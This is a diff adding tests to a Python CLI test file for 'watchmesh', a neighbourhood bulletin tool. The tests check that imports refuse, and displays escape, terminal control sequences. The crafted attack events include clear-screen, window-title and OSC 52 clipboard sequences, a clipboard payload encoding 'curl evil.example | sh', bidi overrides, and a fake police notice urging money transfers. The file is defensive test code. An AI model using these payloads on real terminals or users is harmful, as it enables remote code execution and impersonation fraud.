@@ -14,6 +14,9 @@ meson test:  test_cli.py WATCHMESH TEST [SOURCE_ROOT]
   errors   bad command lines and broken files: one line, non-zero exit
   post     what post puts in an event: defaults, circle, photo, expiry, refs
   check    export, then the independent Python check of the bundle
+  vouched  a vouched group takes certified residents only
+  escape   terminal escapes (issue 8, item 4): refused at import, a sealed
+           text that breaks the rule not shown, names escaped on screen
 """
 import json
 import os
@@ -21,6 +24,7 @@ import subprocess
 import sys
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import nacl.signing  # noqa: E402
 import wmtest  # noqa: E402
 from wmtest import check, Failure  # noqa: E402
 
@@ -414,6 +418,12 @@ def t_post(env):
     t = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "t", "--text-file", "long.txt")
     check(env.json("show", t, "--dir", "v", "--json")["content"]["text"] == "第一行\n第二行",
           "--text-file")
+    # a file written on Windows: CR LF line ends become LF (CR alone is refused)
+    with open(env.path("crlf.txt"), "wb") as f:
+        f.write("第一行\r\n第二行\r\n".encode())
+    t = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "t", "--text-file", "crlf.txt")
+    check(env.json("show", t, "--dir", "v", "--json")["content"]["text"] == "第一行\n第二行",
+          "--text-file with CR LF")
     out, _ = env.run("post", "reply", "--key", "res2.key", "--dir", "v", "--group", G, "--ref", a,
                      "--text-file", "-", stdin="来自标准输入".encode())
     check(env.json("show", out.strip(), "--dir", "v", "--json")["content"]["text"] == "来自标准输入",
@@ -453,9 +463,114 @@ def t_vouched(env):
     check("--vouched" in err, "no usage error for --vouched network: " + err)
 
 
+def t_escape(env):
+    """Issue 8, item 4, as an attacker does it: events crafted with PyNaCl by
+    a resident's key, carrying clear-screen, window-title and OSC 52
+    (clipboard) sequences, CR and C1 CSI (U+009B), and a fake official
+    line.  The public ones are refused at import with the reason; the sealed
+    one is stored (its text is inside the box) and `feed`/`show --key` show
+    it as refused, never its text.  Then names of certificates stored
+    before the rule (written into the store by hand) carry ESC, CR, C1 and
+    a bidi override: feed and show print them escaped."""
+    import base64
+    import sqlite3
+    import time as _t
+    from nacl.bindings import crypto_sign_ed25519_pk_to_curve25519
+    from nacl.public import PublicKey, SealedBox
+    from nacl.secret import SecretBox
+
+    def raw_controls(text):
+        """Characters a terminal acts on, as they reached our stdout/stderr."""
+        return sorted({"U+%04X" % ord(c) for c in text
+                       if (ord(c) < 0x20 and c not in "\n") or 0x7f <= ord(c) <= 0x9f or
+                       0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069 or c == "\ufffd"})
+
+    env.world("v")
+    officer = bytes.fromhex(env.run("key", "show", "officer.key")[0].strip())
+    station = bytes.fromhex(env.run("key", "show", "station.key")[0].strip())
+    seed = wmtest.key_seed(env.path("res1.key"))
+    author = bytes(nacl.signing.SigningKey(seed).verify_key)
+    now = int(_t.time() * 1000)
+
+    def event(kind, content, refs=(), dt=0):
+        return wmtest.event(seed, kind, now + dt, G, content, refs)
+
+    def seal(text, recipients):
+        """PROTOCOL.md section 6: nonce, a slot per recipient and the author, secretbox."""
+        k, nonce = os.urandom(32), os.urandom(24)
+        slots = [SealedBox(PublicKey(crypto_sign_ed25519_pk_to_curve25519(pk))).encrypt(k)
+                 for pk in recipients + [author]]
+        return nonce + b"".join(slots) + SecretBox(k).encrypt(text, nonce).ciphertext
+
+    fake = "★ 王警官 · 高埔派出所 — bulletin · " + G
+    lure = "请立即把存款转入安全账户"
+    attack = ("\x1b[2J\x1b[H" "\x1b]0;watchmesh: official notice\x07"
+              "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07" +
+              fake + "\n  " + lure)
+    sealed, sealed_id = event(3, {"topic": "police", "to": [officer], "box": seal(attack.encode(), [officer])})
+    cr, _ = event(4, {"text": "收到\r" + fake + "\n  " + lure}, [bytes.fromhex(sealed_id)], 1)
+    csi, _ = event(4, {"text": "收到\u009b2K\u009b1A" + fake}, [bytes.fromhex(sealed_id)], 2)
+    topic, _ = event(3, {"topic": "police\u009b2J\x1b[H", "text": lure}, (), 3)
+    with open(env.path("attack.wm"), "wb") as f:
+        f.write(sealed + cr + csi + topic)
+
+    out, err = env.run("import", "--dir", "v", "attack.wm")
+    check(raw_controls(out + err) == [], "import printed %r raw:\n%r" % (raw_controls(out + err), err))
+    lines = refused_lines(err)
+    check(len(lines) == 3, "expected 3 refusals, got:\n" + err)
+    check(lines[0].startswith("watchmesh: event 2 ") and "'text' holds a carriage return (U+000D)" in lines[0],
+          "the CR reply's refusal: " + lines[0])
+    check(lines[1].startswith("watchmesh: event 3 ") and
+          "'text' holds a C1 control character (U+009B)" in lines[1], "the C1 reply's refusal: " + lines[1])
+    check(lines[2].startswith("watchmesh: event 4 ") and "'topic' is 'police\\u009b2J\\x1b[H'" in lines[2],
+          "the enum refusal quotes the value escaped: " + lines[2])
+    check(summary(out) == "4 events: 1 stored, 0 duplicates, 3 refused", "summary: " + summary(out))
+
+    # the sealed one: opened by the officer, refused with the reason, not printed
+    for args in (["feed", "--dir", "v"], ["show", sealed_id[:8], "--dir", "v"]):
+        out, _ = env.run(*args, "--key", "officer.key", "--passphrase-file", env.passfile)
+        check(raw_controls(out) == [], "%s printed %r raw" % (args[0], raw_controls(out)))
+        check("not shown: content key 'text' holds an escape (U+001B) at byte 0" in out,
+              "%s does not say why the sealed text is not shown:\n%s" % (args[0], out))
+        check(lure not in out and "official notice" not in out, "%s printed the sealed text:\n%s" % (args[0], out))
+    evs = [e for e in env.json("feed", "--dir", "v", "--json", "--key", "officer.key",
+                               "--passphrase-file", env.passfile) if e["id"] == sealed_id]
+    check(len(evs) == 1 and "private_text" not in evs[0] and "U+001B" in evs[0].get("private_refused", ""),
+          "feed --json: %r" % evs)
+
+    # our own CLI refuses to sign such text, sealed or not
+    before = env.feed_ids("v")
+    for args in (["--to", "officer.key"], []):
+        _, err = env.run("post", "request", "--dir", "v", "--key", "res1.key", "--group", G,
+                         "--text", "收到\r" + fake, *args, rc="nonzero")
+        check("carriage return (U+000D)" in err and raw_controls(err) == [],
+              "post %s: the refusal does not name the CR: %r" % (args, err))
+    check(env.feed_ids("v") == before, "a refused post was stored")
+
+    # certificates stored before the rule: a station and a resident whose
+    # names carry a title sequence, a C1 CSI, ESC, CR and a bidi override
+    b = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "防诈骗", "--text", "请勿转账。")
+    r = env.post("request", "v", "res1.key", "--group", G, "--text", "楼道灯坏了。")
+    db = sqlite3.connect(env.path("v", "store.db"))
+    db.execute("UPDATE certs SET name = ? WHERE subject = ?", ("高埔派出所\x1b]0;pwned\x07\u009b2J", station))
+    db.execute("UPDATE certs SET name = ? WHERE subject = ?", ("李阿姨\x1b[2J\r\u202e", author))
+    db.commit()
+    check(db.total_changes == 2, "the certificates were not rewritten")
+    db.close()
+    for args in (["feed", "--dir", "v"], ["show", b[:8], "--dir", "v"], ["show", r[:8], "--dir", "v"]):
+        out, _ = env.run(*args)
+        check(raw_controls(out) == [], "%s printed %r raw:\n%r" % (args, raw_controls(out), out))
+        if args[1] != r[:8]:
+            check("★ 王警官 · 高埔派出所\\x1b]0;pwned\\x07\\u009b2J — bulletin" in out,
+                  "%s: the station's name is not shown escaped:\n%s" % (args, out))
+        if args[1] != b[:8]:
+            check("李阿姨\\x1b[2J\\x0d\\u202e (resident) — request" in out,
+                  "%s: the resident's name is not shown escaped:\n%s" % (args, out))
+
+
 TESTS = {"import": t_import, "resync": t_resync, "search": t_search, "pii": t_pii,
          "sealed": t_sealed, "post": t_post, "errors": t_errors, "check": t_check,
-         "vouched": t_vouched}
+         "vouched": t_vouched, "escape": t_escape}
 
 if __name__ == "__main__":
     sys.exit(wmtest.main(TESTS))
